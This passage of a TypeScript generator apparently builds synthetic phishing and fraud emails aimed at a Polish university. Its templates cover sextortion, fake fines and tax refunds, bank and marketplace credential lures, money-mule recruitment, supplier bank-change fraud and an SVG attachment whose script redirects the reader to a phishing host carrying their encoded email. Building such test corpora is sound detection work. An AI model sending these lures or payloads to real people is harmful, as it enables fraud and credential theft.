        content: oneNote(
          pick(r, ['Otworz_dokument.hta', 'Kliknij_aby_wyswietlic.cmd', 'Umowa.wsf', 'Podglad.bat']),
        ),
      },
    ],
    via: 'vps',
    auth: pick(r, ['pass', 'none'] as const),
  };
});

const sextortion = T('sextortion', 'pixel-camera-bitcoin', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const own = chance(r, 0.6);
  const btc = `bc1q${chars(r, 38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')}`;
  const pl = chance(r, 0.6);
  const sum = pl ? pick(r, ['4 800 zł', '5 200 zł', '1 350 USD']) : pick(r, ['$1,350', '$1,650', '1200 EUR']);
  const text = pl
    ? `Cześć,\n\nmam złe wieści. Kilka miesięcy temu uzyskałem dostęp do Twojego urządzenia, z którego korzystasz do przeglądania internetu. ${own ? `Wysłałem tę wiadomość z Twojego konta (${to.address}), co chyba wystarczy za dowód.` : `Znam też hasło do Twojej skrzynki ${to.address}.`}\n\nZainstalowałem oprogramowanie, które nagrało Cię przez kamerę podczas odwiedzania stron dla dorosłych, a także skopiowałem Twoje kontakty - współpracowników i studentów.\n\nJeśli chcesz, żebym usunął nagrania, przelej ${sum} w Bitcoinach na adres:\n\n${btc}\n\nMasz 48 godzin od otwarcia tej wiadomości. Nie odpowiadaj na nią i nie zgłaszaj tego nikomu - zobaczę to.`
    : `Hello,\n\nI have some bad news for you. A few months ago I gained access to the device you use for browsing. ${own ? `I am writing to you from your own account (${to.address}) to prove it.` : `I also know the password of your mailbox ${to.address}.`}\n\nMy software recorded you through your webcam while you were visiting adult websites, and I copied your contacts - colleagues and students included.\n\nIf you want me to delete the recordings, send ${sum} in Bitcoin to:\n\n${btc}\n\nYou have 48 hours from opening this email. Do not reply and do not tell anyone - I will know.`;
  const stranger = intlName(r);
  return {
    from: own
      ? to
      : { name: stranger.first, address: freemail(r, stranger, ['gmail.com', 'outlook.com', 'gmx.com']) },
    to: [to],
    subject: pl
      ? pick(r, ['Twoje konto zostało zhakowane', `${to.address} - mam Twoje dane`, 'Nagranie'])
      : pick(r, ['Your account has been hacked', 'I know your password', 'Payment required']),
    date,
    text,
    via: own ? 'vps' : undefined,
    auth: own ? 'spoof' : undefined,
  };
});

const fakeFine = T('fake-fine', 'etoll-canard-parking-fine', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const which = r.below(3);
  const plate = `K${pick(r, ['R', 'RA', 'K', 'WI'])} ${digits(r, 4)}${upper(r, 1)}`;
  const look = [
    pick(r, ['etoll-gov.pl', 'e-toll-oplaty.com', 'etoll.gov.pl-naleznosci.info']),
    pick(r, ['canard-gitd.pl', 'mandaty-gov.com', 'gitd-mandat.online']),
    pick(r, ['spp-krakow.info', 'krakow-parkowanie.pl', 'zdmk-oplaty.com']),
  ][which];
  const link = pick(r, [`https://${look}/platnosc/${token(r, 10)}`, freeHost(r, 'oplata-naleznosci')]);
  const what = [
    {
      brand: 'e-TOLL',
      color: '#005ca9',
      subj: 'e-TOLL: nieuregulowana opłata za przejazd',
      body: `odnotowaliśmy przejazd pojazdu ${plate} odcinkiem płatnym bez uiszczenia opłaty elektronicznej. Należność wynosi **${pick(r, ['34,70', '21,30', '56,90'])} zł**.`,
    },
    {
      brand: 'CANARD - GITD',
      color: '#21409a',
      subj: `Wezwanie do zapłaty mandatu - pojazd ${plate}`,
      body: `urządzenie rejestrujące CANARD zarejestrowało przekroczenie dopuszczalnej prędkości o ${int(r, 11, 30)} km/h przez pojazd ${plate}. Grzywna: **${pick(r, ['300', '400', '500'])} zł**.`,
    },
    {
      brand: 'Strefa Płatnego Parkowania Kraków',
      color: '#0f5132',
      subj: 'Opłata dodatkowa za nieopłacony postój',
      body: `w dniu ${plDate(addDays(date, -int(r, 2, 9)))} pojazd ${plate} był zaparkowany w strefie płatnego parkowania bez opłaty. Opłata dodatkowa: **${pick(r, ['150', '250'])} zł** (obniżona do 50 zł przy płatności w ciągu 7 dni).`,
    },
  ][which];
  return {
    from: { name: what.brand, address: `powiadomienia@${look}` },
    to: [to],
    subject: what.subj,
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: what.brand, color: what.color },
        greeting: 'Szanowni Państwo,',
        blocks: [
          what.body,
          `Prosimy o uregulowanie należności do ${plDate(addDays(date, 3))}. Brak płatności spowoduje skierowanie sprawy do postępowania egzekucyjnego i naliczenie kosztów.`,
          { button: 'Zapłać teraz', href: link },
        ],
      },
      0.4,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const taxRefund = T('tax-refund', 'e-urzad-skarbowy-refund', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const sum = pln(amount(r, 340, 2900));
  const host = pick(r, [
    'podatki-gov.pl',
    'e-urzad-skarbowy.com',
    'zwrot-podatku.gov-pl.online',
    'urzadskarbowy-zwrot.pl',
  ]);
  const link = pick(r, [
    `https://${host}/e-urzad/zwrot?sprawa=${digits(r, 10)}`,
    freeHost(r, 'e-urzad-zwrot'),
  ]);
  return {
    from: { name: 'e-Urząd Skarbowy', address: pick(r, [`powiadomienia@${host}`, `noreply@${host}`]) },
    to: [to],
    subject: pick(r, [
      'e-Urząd Skarbowy: zwrot nadpłaty podatku za 2025 r.',
      `Przysługuje Ci zwrot podatku: ${sum}`,
      'Wstrzymany zwrot PIT - wymagane działanie',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'podatki.gov.pl', color: '#c4161c', sub: 'Krajowa Administracja Skarbowa' },
        greeting: 'Szanowny Podatniku,',
        blocks: [
          `na podstawie rozliczenia PIT-37 za 2025 r. przysługuje Ci zwrot nadpłaty podatku w kwocie **${sum}**.`,
          'Z uwagi na brak aktualnego numeru rachunku bankowego wypłata została wstrzymana. Zaloguj się do e-Urzędu Skarbowego i wskaż rachunek do zwrotu w ciągu 3 dni roboczych.',
          { button: 'Odbierz zwrot', href: link },
        ],
        footer: ['Ministerstwo Finansów | Krajowa Administracja Skarbowa'],
      },
      0.4,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const bankCredential = T('bank-credential', 'bank-kyc-update-login', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const b = pick(r, BANKS);
  const host = pick(r, b.looks);
  const link = pick(r, [
    `https://${host}/logowanie?ref=${token(r, 10)}`,
    freeHost(r, `${b.key}-weryfikacja`),
    compromisedSite(r, b.key),
  ]);
  const variant = r.below(3);
  return {
    from: { name: b.name, address: pick(r, [`kontakt@${host}`, `powiadomienia@${host}`]) },
    to: [to],
    subject: [
      `Aktualizacja danych klienta - wymagana do ${plDate(addDays(date, 3))}`,
      `Dostęp do ${b.site} został ograniczony`,
      `Nowe zabezpieczenia ${b.app} - potwierdź urządzenie`,
    ][variant],
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: b.name, color: b.color },
        greeting: 'Szanowny Kliencie,',
        blocks: [
          [
            'zgodnie z ustawą o przeciwdziałaniu praniu pieniędzy jesteśmy zobowiązani do okresowej aktualizacji danych klientów. Prosimy o potwierdzenie danych osobowych oraz dokumentu tożsamości.',
            `z powodu nieudanych prób logowania dostęp do ${b.site} został czasowo ograniczony. Aby go przywrócić, potwierdź swoją tożsamość.`,
            `wprowadziliśmy nowe zabezpieczenia w ${b.app}. Aby dalej korzystać z bankowości, potwierdź zaufane urządzenie.`,
          ][variant],
          { button: 'Zaloguj się', href: link },
          'Brak potwierdzenia w wyznaczonym terminie skutkuje czasową blokadą rachunku.',
        ],
        footer: [`${b.name} | Infolinia dostępna w aplikacji`],
      },
      0.4,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const marketplaceAccount = T('marketplace-account', 'allegro-suspended-or-buyer-paid', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const to = chance(r, 0.5) ? someone(r) : { name: s.name, address: s.email };
  const host = pick(r, [
    'allegro-pomoc.pl',
    'allegro.pl-konto.info',
    'allegrolokalnie-platnosci.com',
    'allegro-weryfikacja.online',
  ]);
  const link = pick(r, [
    `https://${host}/${pick(r, ['konto', 'platnosc', 'odbierz-srodki'])}/${token(r, 10)}`,
    freeHost(r, 'allegro-lokalnie'),
  ]);
  const variant = r.below(3);
  const item = pick(r, [
    'Podręcznik „Fizyka dla studentów” t. 1-3',
    'Monitor Dell 27"',
    'Rower miejski Kross',
    'Kalkulator Casio fx-991',
    'Słuchawki Sony WH-1000XM4',
  ]);
  const price = pln(amount(r, 60, 1400));
  return {
    from: { name: pick(r, ['Allegro', 'Allegro Lokalnie']), address: `powiadomienia@${host}` },
    to: [to],
    subject: [
      'Allegro: Twoje konto zostało tymczasowo zawieszone',
      'Płatność za zamówienie nie powiodła się',
      `Kupujący opłacił przedmiot: ${item}`,
    ][variant],
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'allegro', color: '#ff5a00' },
        greeting: 'Cześć,',
        blocks: [
          [
            'w związku z podejrzaną aktywnością na Twoim koncie zawiesiliśmy możliwość zakupów i sprzedaży. Aby przywrócić pełny dostęp, potwierdź swoje dane.',
            `płatność za Twoje ostatnie zamówienie (${price}) została odrzucona przez operatora. Zaktualizuj metodę płatności w ciągu 24 godzin, inaczej zamówienie zostanie anulowane.`,
            `kupujący opłacił przedmiot „${item}” (${price}) w ramach usługi Allegro Lokalnie z Dostawą. Aby otrzymać środki na kartę, potwierdź dane odbioru płatności.`,
          ][variant],
          { button: ['Potwierdź dane', 'Zaktualizuj płatność', 'Odbierz środki'][variant], href: link },
        ],
        footer: ['Allegro.pl sp. z o.o., ul. Grunwaldzka 182, 60-166 Poznań'],
      },
      0.4,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const meetingInvite = T('meeting-invite-lure', 'zoom-invite-fake-client', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const host = pick(r, [
    'zoom.us-join.app',
    'zoommeeting-invite.com',
    'us05web-zoom.com',
    'zoom-conference.live',
  ]);
  const id = `${digits(r, 3)} ${digits(r, 4)} ${digits(r, 4)}`;
  const link = `https://${pick(r, ['us05web', 'us06web', 'us02web'])}.${host}/j/${id.replace(/ /g, '')}?pwd=${token(r, 28)}`;
  const inviter = chance(r, 0.5) ? anyone(r) : { name: intlName(r).full };
  const topic = pick(r, [
    'Consortium kick-off WP3',
    'Erasmus+ partners - annual meeting',
    'Rada Wydziału - posiedzenie nadzwyczajne',
    'Budget review 2026',
    'Recenzja wniosku - spotkanie zespołu',
  ]);
  const recording = chance(r, 0.35);
  return {
    from: { name: `${inviter.name} (Zoom)`, address: pick(r, [`no-reply@${host}`, `meetings@${host}`]) },
    to: [addr(to)],
    subject: recording
      ? `Cloud Recording - ${topic} is now available`
      : `${inviter.name} is inviting you to a scheduled Zoom meeting`,
    date,
    ...parts(
      r,
      {
        lang: 'en',
        brand: { name: 'zoom', color: '#0b5cff' },
        blocks: recording
          ? [
              `Hi ${to.first},`,
              `The cloud recording of **${topic}** is now available. Date: ${longDate(addDays(date, -1), 'en')}.`,
              { button: 'Play recording', href: link },
              'If the player does not start, install the latest Zoom Workplace update when prompted.',
            ]
          : [
              `${inviter.name} is inviting you to a scheduled Zoom meeting.`,
              {
                facts: [
                  ['Topic', topic],
                  ['Time', `${longDate(addDays(date, int(r, 0, 2)), 'en')} ${hm(date)} Warsaw`],
                  ['Meeting ID', id],
                  ['Passcode', digits(r, 6)],
                ],
              },
              { button: 'Join Zoom Meeting', href: link },
            ],
        footer: ['Zoom Communications, Inc. 55 Almaden Blvd, San Jose, CA 95113'],
      },
      0.5,
      0.1,
    ),
    via: pick(r, ['vps', 'sendgrid'] as const),
    auth: 'lookalike',
  };
});

const svgAttachment = T('svg-attachment', 'teams-voicemail-svg', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const caller = plMobile(r);
  const secs = `0:${two2(int(r, 12, 58))}`;
  const target = pick(r, [
    compromisedSite(r, 'vm'),
    freeHost(r, 'voicemail-teams'),
    `https://${chars(r, 7)}.${pick(r, ['sbs', 'cfd', 'lat', 'top'])}/vm/`,
  ]);
  const email64 = Buffer.from(to.email).toString('base64');
  const svg = [
    '<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">',
    '<rect width="420" height="120" fill="#f3f2f1"/>',
    `<text x="20" y="55" font-family="Segoe UI, Arial" font-size="16" fill="#252423">Odtwarzanie wiadomości głosowej (${secs})...</text>`,
    '<script type="text/javascript"><![CDATA[',
    `var e="${email64}";var t=atob("${Buffer.from(target).toString('base64')}");window.location.href=t+"#"+e;`,
    ']]></script>',
    '</svg>',
  ].join('\n');
  const look = pick(r, ORG_LOOKALIKES);
  const spoof = chance(r, 0.5);
  return {
    from: spoof
      ? { name: 'Microsoft Teams', address: 'noreply@corp.example' }
      : { name: 'Poczta głosowa Teams', address: `voicemail@${look}` },
    returnPath: spoof ? `${chars(r, 8)}@${pick(r, ['vm-notify.top', 'mailer-x.xyz'])}` : undefined,
    to: [addr(to)],
    subject: pick(r, [
      `Nowa wiadomość głosowa od ${caller} (${secs})`,
      `Nieodebrane połączenie: ${caller}`,
      `Voicemail from ${caller} - ${secs}`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        blocks: [
          `Masz nową wiadomość głosową od **${caller}**.`,
          {
            facts: [
              ['Długość', secs],
              ['Odebrano', `${plDate(date)} ${hm(date)}`],
            ],
          },
          'Nagranie znajduje się w załączniku. Otwórz je w przeglądarce, aby odsłuchać.',
        ],
        footer: ['Microsoft Teams | Uniwersytet Wiślany'],
      },
      0.6,
      0.1,
    ),
    attachments: [
      { filename: `VM_${isoDay(date).replace(/-/g, '')}_${digits(r, 4)}.svg`, type: MIME.svg, content: svg },
    ],
    via: 'vps',
    auth: spoof ? 'spoof' : 'lookalike',
  };
});

function two2(n: number): string {
  return String(n).padStart(2, '0');
}

const mailboxQuota = T('mailbox-quota', 'mailbox-full-messages-held', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const used = int(r, 96, 99);
  const held = int(r, 6, 48);
  const spoof = chance(r, 0.5);
  const look = pick(r, ORG_LOOKALIKES);
  const hijacked = pick(r, HIJACKED);
  const page = pick(r, [compromisedSite(r, 'quota'), freeHost(r, 'mail-storage-upgrade')]);
  const link = `${page}${page.includes('?') ? '&' : '?'}email=${encodeURIComponent(to.email)}`;
  return {
    from: spoof
      ? { name: 'Administrator poczty', address: 'postmaster@corp.example' }
      : {
          name: 'Administrator poczty corp.example',
          address: chance(r, 0.5) ? `postmaster@${look}` : `admin@${hijacked}`,
        },
    returnPath: spoof ? `${chars(r, 6)}@${hijacked}` : undefined,
    to: [addr(to)],
    subject: pick(r, [
      `Twoja skrzynka pocztowa jest pełna (${used}%)`,
      `${held} wiadomości przychodzących wstrzymanych`,
      `Ostrzeżenie: limit skrzynki ${to.email} przekroczony`,
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        greeting: `Drogi użytkowniku ${to.email},`,
        blocks: [
          `Twoja skrzynka pocztowa wykorzystuje ${used}% dostępnego miejsca. ${held} wiadomości przychodzących zostało wstrzymanych i zostanie usuniętych po 72 godzinach.`,
          `[Zwiększ limit skrzynki i odbierz wiadomości](${link})`,
          'Ta usługa jest bezpłatna dla pracowników i studentów uczelni.',
        ],
        signature: ['Administrator systemu pocztowego', 'corp.example'],
      },
      0.4,
      0.2,
    ),
    via: 'vps',
    auth: spoof ? 'spoof' : chance(r, 0.5) ? 'lookalike' : 'pass',
  };
});

const internalItSpoof = T('internal-it-spoof', 'sso-migration-confirm-account', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const look = pick(r, ORG_LOOKALIKES);
  const deadline = plDate(addDays(date, pick(r, [2, 3, 5])));
  const link = pick(r, [
    `https://logowanie.${look}/cas/login?service=${encodeURIComponent(`https://usosweb.${look}/`)}`,
    `https://sso.${look}/adfs/ls/?client-request-id=${hex(r, 8)}`,
    freeHost(r, 'corp-sso-migracja'),
  ]);
  return {
    from: { name: `${STAFF.helpdesk.name} - Centrum Informatyczne`, address: `helpdesk@${look}` },
    to: [addr(to)],
    toHeader: chance(r, 0.4) ? `"Pracownicy UW" <pracownicy@${look}>` : undefined,
    subject: pick(r, [
      `Migracja systemu logowania - potwierdź konto do ${deadline}`,
      'Nowy system jednolitego logowania (SSO) - wymagane działanie',
      'Przeniesienie skrzynek pocztowych - potwierdzenie konta',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        style: 'outlook',
        greeting: 'Szanowni Państwo,',
        blocks: [
          `informujemy, że w dniach ${deadline}-${plDate(addDays(date, 7))} Centrum Informatyczne przeprowadza migrację kont pracowniczych do nowego systemu jednolitego logowania (SSO), obejmującego pocztę, USOS, Teams i system kadrowy.`,
          `Aby konto zostało przeniesione bez utraty danych, prosimy o jednorazowe potwierdzenie konta do **${deadline}**: [Potwierdź konto](${link})`,
          'Konta niepotwierdzone zostaną przeniesione w trybie awaryjnym, co może oznaczać utratę części korespondencji.',
        ],
        closing: 'Z poważaniem,',
        signature: [STAFF.helpdesk.name, 'Centrum Informatyczne', ORG.name, STAFF.helpdesk.phone],
      },
      0.3,
      0.2,
    ),
    via: pick(r, ['m365', 'vps'] as const),
    auth: 'lookalike',
  };
});

const libraryAccount = T('library-account', 'library-e-resources-expire', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const to = chance(r, 0.5) ? addr(researcher(r)) : { name: s.name, address: s.email };
  const host = pick(r, ['ezproxy-corp-example.com', 'biblioteka-wislany.pl', 'e-zasoby-bu.online']);
  const link = pick(r, [
    `https://${host}/login?url=https://www.scopus.com`,
    freeHost(r, 'bu-ezproxy'),
    compromisedSite(r, 'bu'),
  ]);
  const variant = r.below(2);
  return {
    from: { name: 'Biblioteka Uniwersytecka', address: pick(r, [`biblioteka@${host}`, `e-zasoby@${host}`]) },
    to: [to],
    subject:
      variant === 0
        ? 'Dostęp zdalny do e-zasobów (Scopus, Web of Science) wygasa'
        : `Twoje konto czytelnika zostanie zablokowane - opłata ${pick(r, ['12,50', '8,00', '23,40'])} zł`,
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        brand: { name: 'Biblioteka Uniwersytecka', color: '#5b2c6f', sub: ORG.name },
        greeting: 'Szanowni Czytelnicy,',
        blocks: [
          variant === 0
            ? `z dniem ${plDate(addDays(date, 2))} wygasa Twój dostęp zdalny do baz Scopus, Web of Science, ScienceDirect i SpringerLink. Aby go przedłużyć na kolejny rok, zaloguj się danymi konta uczelnianego.`
            : 'na Twoim koncie czytelnika widnieje nieuregulowana opłata za przetrzymanie książek. Konto zostanie zablokowane, jeśli opłata nie zostanie uiszczona w ciągu 48 godzin.',
          { button: variant === 0 ? 'Przedłuż dostęp' : 'Ureguluj opłatę', href: link },
        ],
        footer: [`Biblioteka Uniwersytecka | ${ORG.address}`],
      },
      0.4,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const erasmusGrant = T('erasmus-grant-agreement', 'erasmus-first-installment-card', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const host = pick(r, ['erasmus-plus-grants.eu', 'erasmusplus-mobility.org', 'erasmus-grant-portal.com']);
  const link = pick(r, [
    `https://${host}/student/agreement?id=${token(r, 10)}`,
    freeHost(r, 'erasmus-grant'),
  ]);
  const sum = pick(r, [1450, 1800, 2100, 2640]);
  const partner = pick(r, [
    'Università di Bologna',
    'Universidade de Lisboa',
    'Universität Heidelberg',
    'Universiteit van Amsterdam',
    'Universidad de Granada',
  ]);
  return {
    from: { name: 'Erasmus+ Mobility Office', address: `mobility@${host}` },
    replyTo: chance(r, 0.3) ? { address: `erasmus.office.grants@gmail.com` } : undefined,
    to: [{ name: s.name, address: s.email }],
    subject: pick(r, [
      'Erasmus+ 2026/27: your grant agreement is ready',
      `First installment of your Erasmus+ grant (€${sum}) - confirm bank details`,
      'Action required: Erasmus+ grant payment on hold',
    ]),
    date,
    ...parts(
      r,
      {
        lang: 'en',
        brand: { name: 'Erasmus+', color: '#003399', sub: 'Enriching lives, opening minds' },
        greeting: `Dear ${s.first},`,
        blocks: [
          `Congratulations on your nomination for an Erasmus+ study mobility at ${partner}. Your grant agreement has been generated and the first installment of **€${sum}** is ready to be paid.`,
          'To receive the payment before your departure, please sign the agreement online and confirm your bank card details. Unconfirmed grants are reallocated after 72 hours.',
          { button: 'Sign and confirm', href: link },
        ],
        closing: 'Best regards,',
        signature: ['Erasmus+ Mobility Office'],
      },
      0.3,
      0.1,
    ),
    via: pick(r, ['vps', 'sendgrid'] as const),
    auth: 'lookalike',
  };
});

const vendorBankChange = T('vendor-bank-change', 'supplier-new-account-letter', (r) => {
  const date = mailDate(r);
  const sup = pick(r, SUPPLIERS);
  const to = pick(r, [STAFF.accounts, STAFF.bursar, STAFF.procurement]);
  const contact = plName(r);
  const newAcct = chance(r, 0.7)
    ? plIban(r, pick(r, ['alior', 'millennium', 'santander'] as const))
    : foreignIban(r);
  const phonesDown = chance(r, 0.4);
  const pdf = onePagePdf([
    sup.name,
    `${ORG.city}, ${plDate(date)}`,
    'Zawiadomienie o zmianie rachunku bankowego',
    `Informujemy, ze od dnia ${plDate(date)} platnosci za faktury nalezy kierowac na rachunek:`,
    newAcct,
    'Dotychczasowy rachunek zostanie zamkniety. Prosimy o aktualizacje danych w systemie.',
    'Zarzad',
  ]);
  return {
    from: { name: `${contact.full} | ${sup.name}`, address: `${handle(contact)}@${sup.look}` },
    to: [addr(to)],
    subject: pick(r, [
      'Zmiana rachunku bankowego',
      `${sup.name} - aktualizacja danych do płatności`,
      'Informacja o zmianie numeru konta - pilne',
    ]),
    date,
    text: `Dzień dobry,\n\nw związku ze zmianą banku obsługującego naszą firmę uprzejmie prosimy o aktualizację numeru rachunku w Państwa systemie. Pismo z podpisem Zarządu w załączeniu.\n\nNowy rachunek: ${newAcct}\n\nProsimy o kierowanie na nowy rachunek również płatności za faktury już wystawione, w tym ${`FV/${int(r, 100, 999)}/2026`}.${phonesDown ? '\n\nZ uwagi na przenosiny biura nasze numery stacjonarne są chwilowo nieczynne - prosimy o kontakt wyłącznie mailowy.' : ''}\n\nZ poważaniem\n${contact.full}\nDział Finansowy\n${sup.name}`,
    attachments: [{ filename: 'Zmiana_rachunku_bankowego.pdf', type: MIME.pdf, content: pdf }],
    via: pick(r, ['m365', 'vps'] as const),
    auth: 'lookalike',
  };
});

const moneyMule = T('money-mule-job', 'student-remote-payments-assistant', (r) => {
  const date = mailDate(r);
  const s = student(r);
  const recruiter = chance(r, 0.5) ? plName(r) : intlName(r);
  const company = pick(r, [
    'Vortex Logistics Europe',
    'Nordhaven Trading Ltd',
    'BlueArc Payments',
    'Continental Parts Sp. z o.o.',
  ]);
  const contact = pick(r, [
    `WhatsApp: ${plMobile(r)}`,
    `Telegram: https://t.me/${chars(r, 9)}_hr`,
    `https://wa.me/48${digits(r, 9)}`,
  ]);
  const ua = s.ua && chance(r, 0.5);
  return {
    from: {
      name: `${recruiter.full} - HR ${company}`,
      address: freemail(r, recruiter, ['gmail.com', 'outlook.com']),
    },
    to: [{ name: s.name, address: s.email }],
    toHeader: chance(r, 0.5) ? 'undisclosed-recipients:;' : undefined,
    subject: pick(r, [
      'Praca dodatkowa dla studentów - 3 500-4 500 zł',
      'Oferta pracy zdalnej - asystent ds. rozliczeń',
      'Elastyczna praca dla studentów (2-3 h dziennie)',
    ]),
    date,
    text: `Cześć${ua ? ` ${s.first}` : ''},\n\nfirma ${company} rekrutuje studentów na stanowisko asystenta ds. rozliczeń (praca zdalna, 2-3 godziny dziennie, wynagrodzenie 3 500-4 500 zł miesięcznie).\n\nTwoim zadaniem będzie przyjmowanie płatności od naszych klientów na własne konto bankowe i przekazywanie ich dalej według instrukcji koordynatora. Za każdą transakcję otrzymujesz 8-10% prowizji.\n\nWymagania: pełnoletność, konto w polskim banku, dostęp do telefonu.\n\nZainteresowanych prosimy o kontakt: ${contact}\n\nPozdrawiam\n${recruiter.full}\nDział Rekrutacji`,
  };
});

const investmentScam = T('investment-scam', 'crypto-balance-or-stock-platform', (r) => {
  const date = mailDate(r);
  const to = someone(r);
  const crypto = chance(r, 0.5);
  const link = pick(r, [
    freeHost(r, crypto ? 'btc-wallet-withdraw' : 'inwestycje-polska'),
    `https://${pick(r, ['pl-invest-news.com', 'inwestuj-z-nami.online', 'btc-payout-center.net'])}/${token(r, 8)}`,
    shortLink(r),
  ]);
  const btc = `0,${digits(r, 3)}`;
  return {
    from: crypto
      ? {
          name: 'Wallet Support',
          address: `support@${pick(r, ['btc-payout-center.net', 'cryptovault-alert.com'])}`,
        }
      : {
          name: pick(r, ['Biznes Wiadomości', 'Redakcja Finansowa']),
          address: `newsletter@${pick(r, ['pl-invest-news.com', 'biznes-info24.online'])}`,
        },
    to: [to],
    toHeader: 'undisclosed-recipients:;',
    subject: crypto
      ? pick(r, [
          `Twoje konto zgromadziło ${btc} BTC - wypłać środki`,
          'Ostatnie przypomnienie: nieodebrane środki na Twoim portfelu',
        ])
      : pick(r, [
          'Pracownicy sektora publicznego zarabiają na akcjach spółek Skarbu Państwa',
          'Nowy program inwestycyjny dla Polaków - od 1 000 zł',
        ]),
    date,
    ...parts(
      r,
      {
        lang: 'pl',
        greeting: 'Dzień dobry,',
        blocks: crypto
          ? [
              `na Twoim koncie w serwisie zarejestrowanym ${plDate(addDays(date, -700))} zgromadzono **${btc} BTC** z programu nagród górniczych. Środki nieodebrane w ciągu 48 godzin zostaną przekazane do puli.`,
              { button: 'Wypłać środki', href: link },
            ]
          : [
              `program inwestycyjny w akcje ${pick(r, ['ORLEN', 'PZU', 'KGHM', 'PKO BP'])} wspierany przez ekspertów rynku pozwala zarabiać od ${pln(pick(r, [4000, 6500, 9000]))} miesięcznie przy wkładzie od 1 000 zł. Liczba miejsc ograniczona.`,
              { button: 'Zarejestruj się', href: link },
              'Osobisty doradca skontaktuje się z Tobą telefonicznie w ciągu 24 godzin.',
            ],
      },
      0.5,
      0.1,
    ),
    via: 'vps',
    auth: 'lookalike',
  };
});

const fileShareCollab = T('file-share-collab', 'wetransfer-dropbox-dataset', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const sender = intlName(r);
  const dropbox = chance(r, 0.5);
  const host = dropbox
    ? pick(r, ['dropbox-filetransfer.com', 'dropboxusercontent-share.net', 'db-share.online'])
    : pick(r, ['wetransfer-files.net', 'we-transfer.download', 'wetransfer.com-file.info']);
  const direct = pick(r, [
    `https://${host}/${dropbox ? 's' : 'downloads'}/${hex(r, 32)}/${hex(r, 6)}`,
    freeHost(r, dropbox ? 'dropbox-share' : 'wetransfer-download'),
  ]);
  const link = chance(r, 0.3) ? viaRedirect(r, direct) : direct;
  const files = int(r, 2, 12);
  const size = `${int(r, 40, 980)} MB`;
  const title = pick(r, ['raw data', 'field samples', 'measurements', 'survey results', 'draft figures']);
  return {
    from: { name: dropbox ? `${sender.full} (via Dropbox)` : 'WeTransfer', address: `no-reply@${host}` },
    to: [addr(to)],
    subject: dropbox
      ? `${sender.full} shared "${title} 2026" with you`
      : `${sender.full} sent you ${files} files via WeTransfer`,
    date,
    ...parts(
      r,
      {
        lang: 'en',
        brand: { name: dropbox ? 'Dropbox' : 'WeTransfer', color: dropbox ? '#0061fe' : '#409fff' },
        blocks: [
          dropbox
            ? `${sender.full} invited you to view the folder "**${title} 2026**".`
            : `**${sender.full}** sent you ${files} files (${size}).`,
          `"${pick(r, ['Here are the files we discussed at the workshop.', 'Data for the joint paper - please check.', 'Final set, sorry for the delay.'])}"`,
          { button: dropbox ? 'Go to folder' : 'Download files', href: link },
          dropbox
            ? 'Sign in with your email account to view.'
            : `Files expire on ${longDate(addDays(date, 7), 'en')}.`,
        ],
      },
      0.5,
      0,
    ),
    via: pick(r, ['vps', 'sendgrid'] as const),
    auth: 'lookalike',
  };
});

const quarantineRelease = T('quarantine-release', 'm365-held-messages-release', (r) => {
  const date = mailDate(r);
  const to = anyone(r);
  const n = int(r, 3, 7);
  const hijacked = pick(r, HIJACKED);
  const base = pick(r, [compromisedSite(r, 'quarantine'), freeHost(r, 'm365-quarantine')]);
  const subjects = some(
    r,
    [
      'Faktura VAT 03/2026',
      'Umowa - wersja ostateczna',
      'Wyniki rekrutacji',
      'Payment confirmation',
      'Zaproszenie na konferencję',
      'Rozliczenie delegacji',
      'RE: grant NCN',
      'Przelew zagraniczny',
    ],
    n,
  );
  const en = chance(r, 0.5);
  const spoof = chance(r, 0.5);
  return {
    from: {
      name: en ? 'Microsoft 365 Quarantine' : 'Kwarantanna Microsoft 365',
      address: spoof ? 'quarantine@messaging.microsoft.com' : `quarantine@${hijacked}`,
    },
    returnPath: `${chars(r, 8)}@${hijacked}`,
    to: [addr(to)],
    subject: en ? `You have ${n} held messages` : `Masz ${n} wstrzymanych wiadomości`,
    date,
    ...parts(
      r,
      {
        lang: en ? 'en' : 'pl',
        brand: { name: 'Microsoft 365', color: '#0078d4' },
        blocks: [
          en
            ? `${n} messages addressed to ${to.email} are held in quarantine and will be deleted in 3 days.`
            : `${n} wiadomości do ${to.email} zostało wstrzymanych w kwarantannie i zostanie usuniętych za 3 dni.`,
          {
            list: subjects.map(
              (s) =>
                `${s} - [${en ? 'Release' : 'Zwolnij'}](${base}${base.includes('?') ? '&' : '?'}m=${token(r, 8)})`,
            ),
          },
          {
            button: en ? 'Review all messages' : 'Przejrzyj wszystkie',
            href: `${base}${base.includes('?') ? '&' : '?'}all=1`,
          },
        ],
      },
      0.7,
      0,
    ),
    via: 'vps',
    auth: spoof ? 'spoof' : 'pass',
  };
});

const fakeAward = T('fake-award', 'best-researcher-award-nomination', (r) => {
  const date = mailDate(r);
  const to = researcher(r);
  const host = pick(r, [
    'researchawards-global.org',
    'international-scientist-awards.com',
    'sciencefather-awards.net',
  ]);
